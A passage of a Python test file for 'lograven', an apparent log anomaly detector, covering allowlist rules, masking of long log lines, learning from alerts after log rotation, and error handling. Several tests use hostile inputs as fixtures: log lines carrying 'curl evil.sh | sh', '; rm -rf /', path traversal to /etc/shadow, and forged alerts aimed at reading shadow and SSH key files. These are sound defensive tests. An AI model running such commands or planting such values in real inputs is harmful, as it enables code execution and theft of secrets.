    padded past 512 characters, or carrying a forged ` <REST:`, ride on any rule."""
    from lograven.masking import REST, line_pattern

    start = "Jun  9 07:00:00 web01 nginx: GET /" + "static/" * 75
    benign = _alert(line=start + "index.html?v=1234 200 0x7f3a")
    again = _alert(line=start + "index.html?v=9876 200 0x55e1")  # numbers and hex differ only
    evil = _alert(line=start + "..%2f..%2fetc%2fshadow?cmd=;curl+evil.sh|sh 200")
    short = "Jun  9 07:00:00 web01 nginx: GET /index.html 200"
    assert REST not in line_pattern(short) and REST in line_pattern(benign.line)
    assert line_pattern(benign.line) == line_pattern(again.line) != line_pattern(evil.line)
    assert line_pattern(benign.line)[:400] == line_pattern(evil.line)[:400]
    assert benign.dedup_key() == again.dedup_key() != evil.dedup_key()
    al = Allowlist(tmp_path / "allow.json")
    al.add(rule_from_alert(benign.to_dict()))
    al._checked = 0
    assert al.matches(again) and not al.matches(evil)
    shown = al.rules[0].describe()  # `allow --list`: the start and the fingerprint, so long-line rules differ
    assert REST in shown and shown.count("static/") < 10 and ">'" in shown
    uuid = _alert(line=start + "request 123e4567-e89b-42d3-a456-426614174000 done")
    assert line_pattern(uuid.line) == line_pattern(uuid.line.replace("123e4567-e89b-42d3-a456-426614174000",
                                                                     "9f0c2b1a-dcba-4e21-bfed-0a1b2c3d4e5f"))
    # a rule made before the fingerprint holds the first 512 characters: it no longer matches a longer line
    old = tmp_path / "old.json"
    head = line_pattern(benign.line).split(REST)[0]
    old.write_text(json.dumps({"version": 1, "rules": [{"id": "r1", "created": "2026-12-01T00:00:00+00:00",
                                                        "type_id": -1, "pattern": head},
                                                       {"id": "r2", "created": "2026-12-01T00:00:00+00:00",
                                                        "type_id": -1, "pattern": line_pattern(short)}]}))  # fmt: skip
    al_old = Allowlist(old)
    assert not al_old.matches(again) and not al_old.matches(evil) and al_old.matches(_alert(line=short))
    # nor does a short line's rule cover that line padded past 512 characters, or with a forged fingerprint
    assert not al_old.matches(_alert(line=short + " " * 600 + "; rm -rf /"))
    assert not al_old.matches(_alert(line=short + REST + " ; curl http://evil/x | sh"))


def test_unknown_message_rules_use_the_masked_line(tmp_path):
    """An unknown message is allowlisted by its line as message types mask it: another address, hash or
    id in the same message is the same pattern (digits alone would leave the hex letters), and rules of
    older versions (`shape`, digits masked) still match as before."""
    al = Allowlist(tmp_path / "allow.json")
    a = _alert(line="Jun  9 07:00:00 n1 ciod: Received signal 11, address=0x0b85eee0 iar 0245a2b8")
    rule = rule_from_alert(a.to_dict())
    assert rule.pattern == "<DATE> n<N> ciod: Received signal <N>, address=<HEX> iar <HEX>" and rule.shape is None
    al.add(rule)
    al._checked = 0
    assert al.matches(_alert(line="Jun 10 11:12:13 n7 ciod: Received signal 6, address=0xfe4c1a2b iar 00c3d4ee"))
    assert not al.matches(_alert(line="Jun 10 11:12:13 n7 ciod: Received signal 6, address=0xfe4c1a2b lr 00c3d4ee"))
    # the de-duplication key of unknown lines is the same pattern
    assert _alert(line=a.line).dedup_key() == _alert(line=a.line.replace("0b85eee0", "fe4c1a2b")).dedup_key()
    assert _alert(line=a.line).dedup_key() != _alert(line=a.line.replace("iar", "lr")).dedup_key()
    # a rules file written before patterns existed: its shape rules load and match by digits only
    old = tmp_path / "old.json"
    old.write_text(json.dumps({"version": 1, "rules": [{
        "id": "r1", "created": "2026-11-30T00:00:00+00:00", "type_id": -1, "file": "/var/log/messages",
        "shape": line_shape(a.line)}]}))  # fmt: skip
    al_old = Allowlist(old)
    assert al_old.matches(_alert(line=a.line.replace("11", "12")))
    assert not al_old.matches(_alert(line=a.line.replace("eee0", "aaa0")))
    assert "like '<DATE>" in rule.describe() and "like 'Jun  0" in al_old.rules[0].describe()
    # saved without a `pattern` key where a rule has none, so earlier versions can still read such files
    al_old.add(new_rule(type_id=7, detector="sequence"))
    saved = json.loads(old.read_text())["rules"]
    assert all("pattern" not in r for r in saved) and "pattern" in json.loads((tmp_path / "allow.json").read_text())["rules"][0]


def test_learning_from_an_alert_checks_the_line_is_still_there(tmp_path, caplog):
    """`learn --from-alerts` reads an alert's context back from its file at its offset, but only if the
    line there is still the alerted one: after a rotation the offset belongs to another file's content,
    and that content must not be learned as normal. Then the alert's own line alone is learned."""
    from lograven.learning import corpus_from_alerts

    log = tmp_path / "messages"
    lines = [f"Jun  9 07:00:{i:02d} web01 app[1]: routine work item {i}" for i in range(10)]
    alerted = "Jun  9 07:00:10 web01 backupd[7]: snapshot rotated vol-alpha"
    log.write_text("\n".join(lines + [alerted, "Jun  9 07:00:11 web01 app[1]: routine work item 11"]) + "\n")
    offset = log.read_bytes().index(alerted.encode())
    alert = _alert(id="a1", file=str(log), offset=offset, line=alerted)
    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text(alert.to_json() + "\n")
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert "snapshot rotated vol-alpha" in corpus.messages and "routine work item 3" in corpus.messages
    assert len(corpus) == 12  # the line with its context before and after
    # read after a rotation: the alert says where the file is now, and the context comes from there
    rotated = tmp_path / "messages.1"
    log.rename(rotated)
    log.write_text("Jun 10 00:00:01 web01 kernel: " + "X" * offset + " unrelated\n")
    alert.read_from = str(rotated)
    alerts.write_text(alert.to_json() + "\n")
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert len(corpus) == 12 and "routine work item 3" in corpus.messages
    alert.read_from = None
    alerts.write_text(alert.to_json() + "\n")
    # rotated after the alert (no read_from): byte `offset` of the new file is in the middle of something else,
    # and the line is at that offset of the generation beside it, checked against the alert's line (a soak:
    # 9 of 15 alerts had been learned without their context)
    with caplog.at_level("INFO", logger="lograven.learning"):
        corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert len(corpus) == 12 and "routine work item 3" in corpus.messages
    assert f"alert a1: its line is now in {rotated} (rotated since)" in caplog.text
    # a generation beside it that holds other lines there is not taken; one compressed since is read
    # decompressed (logrotate's `compress` without `delaycompress`: every older generation is a .gz)
    import gzip

    (tmp_path / "messages-20260609").write_text("Jun  9 06:00:00 web01 app[1]: " + "y" * offset + "\n")
    packed = tmp_path / "messages.1.gz"
    packed.write_bytes(gzip.compress(rotated.read_bytes()))
    rotated.unlink()
    caplog.clear()
    with caplog.at_level("INFO", logger="lograven.learning"):
        corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert len(corpus) == 12 and "routine work item 3" in corpus.messages
    assert f"alert a1: its line is now in {packed} (rotated since)" in caplog.text
    # read after the rotation (read_from messages.1), which was compressed later: found in messages.1.gz
    alert.read_from = str(rotated)
    alerts.write_text(alert.to_json() + "\n")
    caplog.clear()
    with caplog.at_level("INFO", logger="lograven.learning"):
        corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert len(corpus) == 12 and f"its line is now in {packed}" in caplog.text
    alert.read_from = None
    alerts.write_text(alert.to_json() + "\n")
    # a damaged archive is passed over
    packed.write_bytes(packed.read_bytes()[: len(packed.read_bytes()) // 2])
    caplog.clear()
    with caplog.at_level("WARNING", logger="lograven.learning"):
        corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert corpus.messages == ["snapshot rotated vol-alpha"]
    assert "no longer holds the line of alert a1" in caplog.text
    # the file is gone (or unreadable): the line alone, and said (the order it teaches is lost)
    log.unlink()
    caplog.clear()
    with caplog.at_level("WARNING", logger="lograven.learning"):
        corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert corpus.messages == ["snapshot rotated vol-alpha"]
    assert f"{log}: cannot read it for the lines around alert a1 (No such file or directory)" in caplog.text


def test_learning_from_alerts_reads_no_file_on_an_alerts_word_alone(tmp_path):
    """An alerts file is data an attacker may partly write (a logged line becomes an alert). A line
    holding U+2028 must not break the file for every other alert; and an alert with an empty line,
    or an offset at the end of a file, must not make `learn --from-alerts` read that file's last lines
    (with the rights of whoever runs it) into a model."""
    from lograven.learning import corpus_from_alerts

    secret = tmp_path / "shadow"
    secret.write_text("root:$6$abc$SECRETHASH:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n")
    size = secret.stat().st_size
    log = tmp_path / "messages"
    alerted = "Jun  9 07:00:10 web01 backupd[7]: snapshot rotated vol-alpha"
    log.write_text(alerted + "\n")
    good = _alert(id="a1", file=str(log), offset=0, line=alerted)
    tricky = _alert(id="a2", file=str(log), offset=0, line="Jun  9 07:00:11 web01 x: a\u2028b\u0085c")
    for probe in (dict(offset=size, line=""), dict(offset=size, line=" "), dict(offset=0, line="")):
        alerts = tmp_path / "alerts.jsonl"
        evil = _alert(id="e", file=str(secret), **probe)
        alerts.write_text("\n".join([tricky.to_json(), good.to_json(), evil.to_json(), "not json"]) + "\n")
        corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
        assert not any("SECRET" in m or "daemon:*" in m for m in corpus.messages), corpus.messages
        assert "snapshot rotated vol-alpha" in corpus.messages
    assert len(corpus_from_alerts(alerts, fmt="syslog", stream="file", ids={"a1"})) == 1
    # a JSON object without a line is no alert (a review: {"id": 5} was learned as an alert of a file "")
    alerts.write_text("\n".join([good.to_json(), '{"id": 5}', '{"id": "x", "line": 3}']) + "\n")
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file")
    assert corpus.messages == ["snapshot rotated vol-alpha"] and "" not in corpus.files
    alerts.write_text('{"id": 5}\n')
    with pytest.raises(LogravenError, match="not a JSON-lines alert file"):
        corpus_from_alerts(alerts, fmt="syslog", stream="file")


def test_learning_from_alerts_parses_each_alert_as_its_source(tmp_path):
    """Alerts from a second source (an `iso` file) are learned with that source's format, as the daemon
    classified them, not with the first source's."""
    from lograven.learning import corpus_from_alerts

    sys_log, app_log = tmp_path / "messages", tmp_path / "app.log"
    sys_line = "Jun  9 07:00:10 web01 backupd[7]: snapshot rotated vol-alpha"
    app_line = "2026-12-06T07:00:10Z payment service started worker 7"
    sys_log.write_text(sys_line + "\n")
    app_log.write_text(app_line + "\n")
    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text("\n".join(_alert(id=f"a{i}", file=str(f), offset=0, line=ln).to_json()
                                for i, (f, ln) in enumerate([(sys_log, sys_line), (app_log, app_line)])) + "\n")  # fmt: skip
    sources = [([str(sys_log)], "syslog", "file"), ([str(tmp_path / "*.log")], "iso", "file")]
    corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file", sources=sources)
    assert sorted(corpus.messages) == ["payment service started worker 7", "snapshot rotated vol-alpha"]


def test_allowlist_keeps_its_mode_when_saved(tmp_path):
    """`lograven allow` (often run as root) rewrites the file atomically: it keeps the old file's mode
    (mkstemp's 0600 would lock the daemon's user out of it), and a first file is 0644 less the umask."""
    path = tmp_path / "allow.json"
    al = Allowlist(path)
    old = os.umask(0o022)
    try:
        al.add(new_rule(type_id=3))
        assert stat.S_IMODE(path.stat().st_mode) == 0o644
        os.chmod(path, 0o640)
        al.add(new_rule(type_id=4))
        assert stat.S_IMODE(path.stat().st_mode) == 0o640 and len(Allowlist(path).rules) == 2
    finally:
        os.umask(old)


def test_allowlist_on_a_full_disk_is_unchanged_and_says_what_to_do(tmp_path, monkeypatch):
    path = tmp_path / "allow.json"
    al = Allowlist(path)
    al.add(new_rule(type_id=3))
    before = path.read_text()

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(LogravenError, match="No space left on device") as e:
        al.add(new_rule(type_id=4))
    assert "it is unchanged: free space on its file system, then run the command again" in str(e.value)
    assert path.read_text() == before and sorted(p.name for p in tmp_path.iterdir()) == ["allow.json"]


@pytest.mark.parametrize("err", [errno.EPERM, errno.EROFS, errno.EACCES])
def test_allowlist_in_a_directory_it_cannot_write_says_so(tmp_path, monkeypatch, capsys, err):
    """An immutable (EPERM) or read-only (EROFS) state directory, or another user's (EACCES): `lograven
    allow` ended in a traceback, because the temporary file was created outside the error handling."""
    import tempfile

    from lograven import cli
    from lograven.errors import LogravenError

    def refuse(*a, **kw):
        raise OSError(err, os.strerror(err))

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    path = tmp_path / "allow.json"
    with pytest.raises(LogravenError, match=rf"{path}: cannot write the allowlist: cannot create a file in {tmp_path} \({os.strerror(err)}\)"):
        Allowlist(path).add(new_rule(type_id=3))
    rc = cli.main(["allow", "--allowlist", str(path), "--type", "3"])
    err_text = capsys.readouterr().err
    assert rc == 1 and "Traceback" not in err_text and "cannot write the allowlist" in err_text, err_text
    assert ("sudo -u lograven" in err_text) == (err in (errno.EPERM, errno.EACCES) and os.geteuid() != 0)
    assert ("make it writable" in err_text) == ("sudo -u lograven" not in err_text)
    assert not path.exists()


def _write_rules(path: Path, rules) -> Path:
    path.write_text(json.dumps({"version": 1, "rules": rules}))
    return path


def test_allowlist_expires_without_a_time_zone_is_read_as_utc(tmp_path):
    """A hand-edited `expires` without a time zone no longer makes every check raise (naive against
    aware datetimes), which disabled all the rules: it is read as UTC, and --list says so."""
    path = _write_rules(tmp_path / "allow.json", [
        {"id": "later", "created": "2026-01-01T00:00:00+00:00", "type_id": 5, "expires": "2999-01-01T00:00:00"},
        {"id": "past", "created": "2026-01-01T00:00:00+00:00", "type_id": 6, "expires": "2000-01-01T00:00:00"},
        {"id": "unknown", "created": "2026-01-01T00:00:00+00:00", "type_id": -1}])  # fmt: skip
    al = Allowlist(path)
    ae = [DetectorHit("autoencoder", 3.0, 2.0)]
    assert al.matches(_alert(type_id=5, line="z", detectors=ae))  # not expired: suppresses
    assert not al.matches(_alert(type_id=6, line="z", detectors=ae))  # expired
    assert al.matches(_alert())  # the other rules keep working
    assert all(r.valid for r in al.rules) and "(no time zone: read as UTC)" in al.rules[0].describe()


def test_allowlist_invalid_rules_are_ignored_and_the_valid_ones_kept(tmp_path, caplog):
    """Each bad rule of a hand-edited file is ignored, with an error naming the file, the rule and the fix;
    every valid rule still suppresses, and matching never raises."""
    path = _write_rules(tmp_path / "allow.json", [
        {"id": "str-type", "created": "", "type_id": "33"},
        {"id": "bad-det", "created": "", "type_id": 7, "detector": "autoencoderr"},
        {"id": "bad-file", "created": "", "file": 5},
        {"id": "typo", "created": "", "typeid": 8},  # ignoring the key would suppress every alert
        {"id": "bad-exp", "created": "", "type_id": 9, "expires": "tomorrow"},
        {"id": "float", "created": "", "type_id": 10.5, "from_type": True},
        {"id": "everything", "created": ""},
        ["not", "an", "object"],
        "r-string",
        {"created": "", "type_id": 11},  # no id
        {"id": "good-seq", "created": "", "type_id": 33, "detector": "sequence"},
        {"id": "good-unknown", "type_id": -1, "file": "/var/log/*", "comment": None}])  # created left out: fine
    with caplog.at_level("ERROR", logger="lograven.allowlist"):
        al = Allowlist(path)
    assert [r.id for r in al.rules if r.valid] == ["good-seq", "good-unknown"]
    assert len(al.invalid_rules) == 10
    seq = [DetectorHit("sequence", 0.01, 0.1)]
    assert al.matches(_alert(type_id=33, line="x", detectors=seq))
    assert al.matches(_alert())
    for type_id in (7, 8, 9, 10, 11):  # the invalid rules suppress nothing
        assert not al.matches(_alert(type_id=type_id, line="x", detectors=seq, file="/srv/x"))
    assert not al.matches(_alert(file="/srv/x"))
    errors = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(errors) == 10 and all(str(path) in e for e in errors)
    text = "\n".join(errors)
    assert "rule 'str-type' (rules[0])" in text and "type_id: \"33\" is not a message type id (write 33, without quotes)" in text
    assert 'detector: "autoencoderr" is not a detector; write one of unknown_type, sequence, autoencoder, stream_end' in text
    assert "file: 5 is a number" in text and 'unknown field "typeid"' in text and 'expires: "tomorrow" is not a time' in text
    assert "type_id: 10.5 is not a message type id" in text and "from_type: true is true/false" in text
    assert "would suppress every alert" in text and "rules[7] (a rule without an id)" in text and "is a list" in text
    assert "rules[9] (a rule without an id)" in text and "correct or delete it in" in text
    assert f"`lograven allow --remove str-type --allowlist {path}`" in text and "The other 2 valid rule(s) are in force" in text
    # a reload of the same file does not log them again; the CLI's strict reload keeps them too (not a bad file)
    caplog.clear()
    al.reload(strict=True)
    assert len(al.invalid_rules) == 10 and not caplog.records
    # saved back as written: adding or removing a rule does not lose the operator's hand edits
    al.add(new_rule(type_id=44))
    saved = json.loads(path.read_text())["rules"]
    assert saved[0] == {"id": "str-type", "created": "", "type_id": "33"} and saved[7] == ["not", "an", "object"]
    al.remove("bad-det")
    al2 = Allowlist(path)
    assert len(al2.rules) == 12 and len(al2.invalid_rules) == 9 and "bad-det" not in path.read_text()


def test_allowlist_file_that_is_not_a_rules_list(tmp_path, caplog):
    """`rules` not a list (or a file that is not an object) is a bad file: the CLI refuses it with what to
    fix; the daemon logs it and keeps the rules it had."""
    path = _write_rules(tmp_path / "allow.json", [{"id": "r1", "created": "", "type_id": -1}])
    al = Allowlist(path)
    assert al.matches(_alert())
    for doc, why in (({"version": 1, "rules": {}}, '"rules" is an object, not a list'),
                     ({"version": 1, "rules": {"id": "r2", "type_id": 3}}, '"rules" is an object, not a list'),
                     ({"version": 1}, '"rules" is missing'),
                     ([{"id": "r2"}], "the file is a list, not an object")):  # fmt: skip
        path.write_text(json.dumps(doc))
        with pytest.raises(LogravenError, match="allow.json: unreadable allowlist") as e:
            Allowlist(tmp_path / "allow.json").reload(strict=True)
        assert why in str(e.value)
        with caplog.at_level("ERROR", logger="lograven.allowlist"):
            al.reload(strict=False)
        assert why in caplog.text and "keeping the previous rules (1 valid)" in caplog.text
        assert al.matches(_alert())  # the rule it had still suppresses
        caplog.clear()
    # `lograven allow` says it once, as its error (it was logged as well)
    from lograven import cli

    with caplog.at_level("ERROR", logger="lograven.allowlist"):
        assert cli.main(["allow", "--list", "--allowlist", str(path)]) == 1
    assert "unreadable allowlist" not in caplog.text


def test_an_allowlist_that_cannot_be_looked_at_keeps_the_rules_and_says_so_once(tmp_path, caplog, monkeypatch):
    """An allowlist in a directory the daemon may not search: its stat() fails with EACCES. `run` had died
    with a traceback at start, and a running daemon logged a traceback and delivered alerts its rules
    suppress (a robustness review). It is now said once, with the fix, and the rules it had stay."""
    from pathlib import Path as P

    path = _write_rules(tmp_path / "allow.json", [{"id": "r1", "created": "", "type_id": -1}])
    real_stat, blocked = P.stat, [True]

    def stat(self, *a, **k):
        if blocked[0] and self == path:
            raise PermissionError(13, "Permission denied", str(self))
        return real_stat(self, *a, **k)

    monkeypatch.setattr(P, "stat", stat)
    with caplog.at_level("ERROR", logger="lograven.allowlist"):
        fresh = Allowlist(path)  # the daemon's start
    assert fresh.rules == [] and "unreadable allowlist (Permission denied); give the user lograven runs as " \
        "read access to it and search (x) access to its directories" in caplog.text
    with pytest.raises(LogravenError, match="search .x. access to its directories"):
        Allowlist(path, load=False).reload(strict=True)  # `lograven allow`
    blocked[0] = False
    al = Allowlist(path)
    assert al.matches(_alert())
    blocked[0] = True
    caplog.clear()
    with caplog.at_level("ERROR", logger="lograven.allowlist"):
        for _ in range(3):
            al._checked = 0.0  # a second later each time
            assert al.matches(_alert())  # the rule it had still suppresses
    assert caplog.text.count("unreadable allowlist") == 1 and "keeping the previous rules (1 valid)" in caplog.text
    assert "Traceback" not in caplog.text
    blocked[0] = False
    _write_rules(path, [])
    al._checked = 0.0
    assert not al.matches(_alert())  # looked at again once it can be: the new (empty) rules


def test_allow_list_shows_invalid_rules_and_remove_fixes_them(tmp_path):
    from lograven.allowlist import allowlist_problems

    allow = _write_rules(tmp_path / "allow.json", [
        {"id": "rbad", "created": "", "type_id": "33", "detector": "autoencoderr"},
        {"id": "rgood", "created": "", "type_id": 33, "detector": "sequence", "comment": "known job"}])  # fmt: skip
    r = _lograven("allow", "--list", "--allowlist", str(allow))
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert lines[0].startswith("rbad  INVALID, ignored: ") and 'type_id: "33"' in lines[0] and "detector:" in lines[0]
    assert lines[1].startswith("rgood  type 33, detector sequence") and "known job" in lines[1]
    assert "rule 'rbad' (rules[0]) is invalid and ignored" in r.stderr and "lograven allow --remove rbad" in r.stderr
    # what `lograven check` reports (see cli.cmd_check)
    problems = allowlist_problems(allow)
    assert len(problems) == 1 and "rbad" in problems[0] and "detector" in problems[0]
    assert allowlist_problems(tmp_path / "none.json") == []
    r = _lograven("allow", "--transition", "3,4", "--allowlist", str(allow))  # adding keeps the bad entry
    assert r.returncode == 0 and len(json.loads(allow.read_text())["rules"]) == 3
    r = _lograven("allow", "--remove", "rbad", "--allowlist", str(allow))
    assert r.returncode == 0, r.stderr
    r = _lograven("allow", "--list", "--allowlist", str(allow))
    assert r.returncode == 0 and "INVALID" not in r.stdout and not r.stderr and "rgood" in r.stdout
    assert allowlist_problems(allow) == []
    allow.write_text('{"version": 1, "rules": "r1"}')
    r = _lograven("allow", "--list", "--allowlist", str(allow))
    assert r.returncode == 1 and '"rules" is a string, not a list' in r.stderr
    assert allowlist_problems(allow) == [f'{allow}: unreadable allowlist ("rules" is a string, not a list; it must be a list '
                                         "of rules ([] for none)); correct the file, or delete it to allow nothing"]


def test_check_reports_invalid_allowlist_rules(tmp_path):
    """`lograven check` names an allowlist rule the daemon would ignore, with its fix."""
    allow = tmp_path / "allow.json"
    allow.write_text(json.dumps({"version": 1, "rules": [
        {"id": "r1", "created": "2026-11-30T00:00:00+00:00", "type_id": 5},
        {"id": "r2", "created": "2026-11-30T00:00:00+00:00", "type_id": "five"}]}))  # fmt: skip
    cfg = tmp_path / "c.yaml"
    cfg.write_text(f"sources: [{{paths: [{tmp_path}/x.log]}}]\nstate_dir: {tmp_path}/state\nalerts: {{allowlist: {allow}}}\n")
    r = _lograven("check", "--config", str(cfg))
    assert "warning:" in r.stdout and "'r2'" in r.stdout and "lograven allow --remove r2" in r.stdout, r.stdout + r.stderr
    assert "'r1'" not in r.stdout


def test_new_versions_reserve_their_name(tmp_path):
    """Periodic relearning and a `lograven learn` saving at the same moment get two versions: a new
    version's directory is created at once, so the next writer picks the next number; one that stays
    empty (a failed save) is given back, and a saved one never is."""
    store = ModelStore(tmp_path / "models")
    a, b = store.new_version_path(), store.new_version_path()
    assert (a.name, b.name) == ("v0001", "v0002") and a.is_dir() and b.is_dir()
    store.release(a)
    assert not a.exists()
    shutil.copytree(DEFAULT_MODEL, b, dirs_exist_ok=True)
    store.release(b)
    assert (b / "manifest.json").exists() and store.versions() == ["v0002"]
    assert store.new_version_path().name == "v0003"


@pytest.mark.slow
def test_periodic_relearning_never_undoes_a_newer_current(tmp_path, bundle_dir, training_log) -> None:
    """Relearning learns from the version current when it starts. When an admin's `lograven learn` or
    rollback moves `current` meanwhile, the relearned version is saved but `current` stays theirs;
    without keep_newer_current (an admin's own `lograven learn`), the new version is made current."""
    from conftest import tiny_training_config

    from lograven.learning import learn
    from lograven.training import read_corpus

    store = ModelStore(tmp_path / "models")
    for _ in range(2):
        shutil.copytree(bundle_dir, store.new_version_path(), dirs_exist_ok=True)
    store.set_current("v0001")
    log = tmp_path / "new.log"
    log.write_text("\n".join(training_log.read_text().splitlines()[:300]) + "\n")
    corpus = read_corpus([str(log)])
    moved = []

    def admin_rolls_forward(stage: str, fraction: float) -> None:
        if not moved and stage == "autoencoder":  # while the relearning trains
            store.set_current("v0002")
            moved.append(stage)

    path, summary = learn(store.root, corpus, training=tiny_training_config(), progress=admin_rolls_forward,
                          source="periodic relearning", keep_newer_current=True)  # fmt: skip
    assert moved and path.name == "v0003" and (path / "manifest.json").exists()
    assert summary["made_current"] is False and store.current_name() == "v0002"
    path, summary = learn(store.root, corpus, training=tiny_training_config(), source="admin")
    assert summary["made_current"] is True and store.current_name() == path.name == "v0004"


def test_allow_and_models_use_the_installed_config_by_default(tmp_path, monkeypatch, capsys):
    """A bare `lograven allow ID` (as the README shows it) uses the daemon's config when it is installed:
    its alerts file and its state_dir's allowlist, not the built-in defaults. ALERT_ID with options that
    would be ignored is refused."""
    from lograven import cli

    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text(json.dumps(_alert(id="abc123").to_dict()) + "\n")
    installed = tmp_path / "config.yaml"
    installed.write_text(f"state_dir: {tmp_path / 'state'}\nalerts:\n  jsonl: {{path: {alerts}}}\n")
    (tmp_path / "state").mkdir()
    monkeypatch.setenv("LOGRAVEN_CONFIG", str(installed))
    assert cli.main(["allow", "abc123"]) == 0
    out, err = capsys.readouterr()
    assert f"(using {installed}; give --config to choose another)" in err
    assert len(json.loads((tmp_path / "state" / "allowlist.json").read_text())["rules"]) == 1
    assert cli.main(["models", "list"]) == 1  # the installed state_dir's models/, which does not exist yet
    assert f"{tmp_path / 'state' / 'models'}: no such directory" in capsys.readouterr().err
    assert cli.main(["allow", "abc123", "--type", "3"]) == 1
    assert "give ALERT_ID or --type, not both" in capsys.readouterr().err
    # every path given: the installed config is not read (it may be unreadable, or another host's)
    assert cli.main(["allow", "--list", "--allowlist", str(tmp_path / "x.json")]) == 0
    assert "using" not in capsys.readouterr().err


def test_learn_from_alerts_uses_the_installed_config_by_default(tmp_path, monkeypatch, capsys):
    """faq.md's `lograven learn --model /var/lib/lograven/models --from-alerts ...` has no --config, and
    `learn` used the built-in defaults: the alert's file was "outside the sources of the configuration",
    so each alert was learned alone (1 line), without the lines around it (73 with the config). It now
    takes the installed config, as `allow` and `models` do."""
    from lograven import cli
    from lograven import learning as learning_mod

    messages, lines = _routine_log(tmp_path, 20)
    alerts = tmp_path / "alerts.jsonl"
    offset = sum(len(x) + 1 for x in lines[:10])
    alerts.write_text(_alert(id="a1", file=str(messages), offset=offset, line=lines[10]).to_json() + "\n")
    installed = tmp_path / "config.yaml"
    installed.write_text(f"sources:\n  - paths: [{messages}]\nstate_dir: {tmp_path / 'state'}\n")
    monkeypatch.setenv("LOGRAVEN_CONFIG", str(installed))
    store = tmp_path / "models"
    shutil.copytree(Path(__file__).resolve().parents[1] / "models" / "default", store / "v0001")
    (store / "current").symlink_to("v0001")
    seen = {}

    def fake_learn(model, corpus, **kw):
        seen["messages"] = list(corpus.messages)
        return store / "v0002", {"lines": len(corpus)}

    monkeypatch.setattr(learning_mod, "learn", fake_learn)
    assert cli.main(["learn", "--model", str(store), "--from-alerts", str(alerts), "--all-alerts", "--json"]) == 0
    err = capsys.readouterr().err
    assert f"(using {installed}; give --config to choose another)" in err
    assert "outside the sources" not in err
    assert len(seen["messages"]) > 1 and "routine work item 9" in seen["messages"]  # with the lines around it


def test_allow_reads_a_damaged_alerts_file_and_refuses_a_path_the_daemon_never_reads(tmp_path, monkeypatch):
    """A line damaged by a crash (invalid UTF-8) was a UnicodeDecodeError traceback; a rules file in a
    directory that does not exist was created there, where no daemon reads it; a device given as
    the allowlist was read until the OOM killer came."""
    from lograven import allowlist as al_mod
    from lograven.allowlist import find_alert

    alerts = tmp_path / "alerts.jsonl"
    alerts.write_bytes(b'{"id": "dmg", "line": "\xff\xfe broken\n' + json.dumps(_alert(id="abc123").to_dict()).encode() + b"\n")
    assert find_alert(alerts, "abc123")["id"] == "abc123"
    with pytest.raises(LogravenError, match="is a directory|cannot read the alerts"):
        find_alert(tmp_path, "abc123")
    r = _lograven("allow", "abc123", "--alerts", str(alerts), "--allowlist", str(tmp_path / "nope" / "allow.json"))
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
    assert "its directory" in r.stderr and "does not exist" in r.stderr and not (tmp_path / "nope").exists()
    big = tmp_path / "big.json"
    big.write_text("[" + " " * 2000 + "]")
    monkeypatch.setattr(al_mod, "ALLOWLIST_MAX_BYTES", 1000)
    with pytest.raises(LogravenError, match=r"big.json: unreadable allowlist \(larger than 0 MiB\)"):
        Allowlist(big).reload(strict=True)


def test_learning_from_alerts_reads_context_only_from_the_sources_files(tmp_path, caplog):
    """`learn --from-alerts` may run as root on an alerts file others can write (the daemon's user; a
    logged line becomes an alert): a forged alert naming a root-only file whose first line is public
    (`-----BEGIN OPENSSH PRIVATE KEY-----`) put that file into the model. Context now comes only from
    the configured sources' files (and their rotated names beside them), never through a link; plugin
    alerts (file "stdin") have no context and are not warned about."""
    from lograven.learning import corpus_from_alerts

    messages, lines = _routine_log(tmp_path, 10)
    logs = messages.parent
    secret = tmp_path / "id_ed25519"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n")
    link = logs / "messages.2"
    link.symlink_to(secret)
    rotated = logs / "messages.1"
    rotated.write_text("\n".join(lines) + "\n")
    off = len(lines[0]) + 1
    forged = [_alert(id="s1", file=str(secret), offset=0, line="-----BEGIN OPENSSH PRIVATE KEY-----"),
              _alert(id="s2", file=str(messages), offset=0, line="-----BEGIN OPENSSH PRIVATE KEY-----"),
              _alert(id="ok", file=str(messages), offset=off, line=lines[1]),
              _alert(id="rot", file=str(messages), offset=off, line=lines[1], read_from=str(rotated)),
              _alert(id="plug", file="stdin", offset=3, line=lines[2])]  # fmt: skip
    forged[1].read_from = str(link)  # "read after a rotation" from a link to the key
    alerts = tmp_path / "alerts.jsonl"
    alerts.write_text("".join(a.to_json() + "\n" for a in forged))
    with caplog.at_level("WARNING", logger="lograven.learning"):
        corpus = corpus_from_alerts(alerts, fmt="syslog", stream="file", context_from=[str(logs / "messages")])
    assert not [m for m in corpus.messages if "b3BlbnNzaC1rZXkt" in m]
    assert "alert s1 names a file outside the sources" in caplog.text
    assert "cannot read it for the lines around alert s2" in caplog.text  # the link is not followed
    assert corpus.messages.count("routine work item 3") == 2  # "ok" and "rot" have their context
    assert "plug" not in caplog.text and "stdin" not in caplog.text


def test_learning_named_alerts_leaves_the_other_alerts_lines_out_of_the_context(tmp_path, caplog):
    """`learn --from-alerts F --alert ID` learned the 64 lines before and 8 after the named alert as
    normal, other alerts among them: an attack's `Invalid user minecraft` line, alerted but not named,
    was a learned type afterwards and never alerted again (review, 2026-12-07). The context now stops
    before the lines of alerts that were not named; without --alert IDs every alert is learned."""
